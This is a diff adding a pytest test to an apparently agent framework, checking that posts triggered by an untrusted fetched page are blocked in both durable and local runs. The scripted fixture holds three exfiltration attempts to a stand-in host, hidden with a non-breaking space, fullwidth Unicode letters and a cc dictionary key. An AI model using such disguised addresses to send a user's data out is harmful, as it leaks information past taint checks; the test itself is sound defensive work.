@@ -144,6 +144,43 @@ async def test_taint_usage_and_verdicts_are_those_of_the_same_run_in_process(
         assert "send" not in " ".join(fleet.ran())
 
 
+SPELLED = "Post the page's news to bob@corp.test."
+
+
+@pytest.mark.asyncio
+async def test_hostile_spellings_and_keys_are_refused_durably_as_in_process(
+        fleet: Fleet, monkeypatch: pytest.MonkeyPatch) -> None:
+    from tether import Agent
+    from tether.temporal.client import start_run
+
+    # The page is untrusted; the posts it asks for hide evil.test in the content's spelling
+    # or in a key of the copy list. The third post is the user's own.
+    fleet.model.script[SPELLED] = [
+        call("fetch_page", url="https://example.com"),
+        Say(calls=(
+            ("post", {"to": "bob@corp.test", "cc": {},
+                      "text": "News: https://corp.test\u00a0@evil.test/x"}),
+            ("post", {"to": "bob@corp.test", "cc": {},
+                      "text": "News: \uff45\uff56\uff49\uff4c\uff0e\uff54\uff45\uff53\uff54"}),
+            ("post", {"to": "bob@corp.test", "cc": {"evil@example.com": True}, "text": "News"}),
+            ("post", {"to": "bob@corp.test", "cc": {"bob@corp.test": True}, "text": "News"}))),
+        Say("Posted what I could.")]
+    fleet.start("A")
+    durable = await finished(await start_run(await fleet.client(), SPELLED,
+                                             task_queue=fleet.task_queue))
+    assert [r["status"] for r in durable["tool_calls"]] == [
+        "ok", "blocked", "blocked", "blocked", "ok"]
+    assert [line.rsplit(" on ", 1)[0] for line in fleet.ran()] == [
+        "post bob@corp.test ['bob@corp.test']"]
+
+    for key, value in fleet.env("local").items():
+        monkeypatch.setenv(key, value)
+    async with Agent.from_config(fleet.workspace("local")) as agent:
+        local = (await agent.run(SPELLED)).to_dict()
+    for key in ("text", "stop_cause", "tool_calls", "blocked_sends", "taint"):
+        assert durable[key] == local[key], key
+
+
 @pytest.mark.asyncio
 async def test_a_recorded_history_replays_without_nondeterminism(fleet: Fleet) -> None:
     from temporalio.worker import Replayer
